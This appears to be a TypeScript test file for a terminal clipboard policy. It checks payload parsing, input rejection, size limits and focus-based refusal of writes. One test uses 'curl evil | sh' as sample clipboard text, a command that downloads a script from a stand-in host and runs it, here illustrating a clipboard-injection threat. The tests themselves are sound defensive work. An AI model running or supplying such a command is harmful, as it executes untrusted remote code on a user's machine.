import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decideClipboardWrite, readClipboardRequest } from './clipboard-policy.ts';
import { CLIPBOARD_WRITE_MAX_BYTES } from './limits.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('readClipboardRequest (B13)', () => {
  it.each(['c', 'p', 's', '', 'cs'])('takes a write to target "%s"', (target) => {
    const text = 'curl evil | sh\n';
    expect(readClipboardRequest(`${target};${base64(text)}`)).toEqual({ kind: 'write', text });
  });

  it.each(['c;?', 'p;?', ';?'])('tells a read, %s, which nobody answers', (payload) => {
    expect(readClipboardRequest(payload)).toEqual({ kind: 'read' });
  });

  it.each([
    ['no target', 'YQ=='],
    ['unknown target', `x;${base64('a')}`],
    ['cut buffer', `0;${base64('a')}`],
    ['no text', 'c;'],
    ['no padding', 'c;YQ'],
    ['blank inside', 'c;YW Jj'],
    ['url alphabet', 'c;_-8='],
    ['padding inside', 'c;YQ==YQ=='],
    ['not UTF-8', `c;${Buffer.from([0xff, 0xfe]).toString('base64')}`],
    ['two payloads', `c;${base64('a')};${base64('b')}`],
    ['read with more', 'c;?x'],
  ])('refuses %s', (_name, payload) => {
    expect(readClipboardRequest(payload).kind).toBe('invalid');
  });

  it('bounds the text, counted in bytes', () => {
    const most = 'x'.repeat(CLIPBOARD_WRITE_MAX_BYTES);
    expect(readClipboardRequest(`c;${base64(most)}`)).toEqual({ kind: 'write', text: most });
    expect(readClipboardRequest(`c;${base64(`${most}x`)}`).kind).toBe('invalid');
    expect(readClipboardRequest(`c;${'A'.repeat(20_000_000)}`).kind).toBe('invalid');
  });

  it('gives back exactly the text that was encoded', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', minLength: 1 }), (text) => {
        expect(readClipboardRequest(`c;${base64(text)}`)).toEqual({ kind: 'write', text });
      }),
    );
  });
});

describe('decideClipboardWrite (B13)', () => {
  it.each([
    ['off', true, 'refuse'],
    ['off', false, 'refuse'],
    ['ask', true, 'ask'],
    ['ask', false, 'refuse'],
    ['allow', true, 'write'],
    ['allow', false, 'refuse'],
  ] as const)('%s, focused %s: %s', (policy, focused, decision) => {
    expect(decideClipboardWrite(policy, focused).kind).toBe(decision);
  });
});
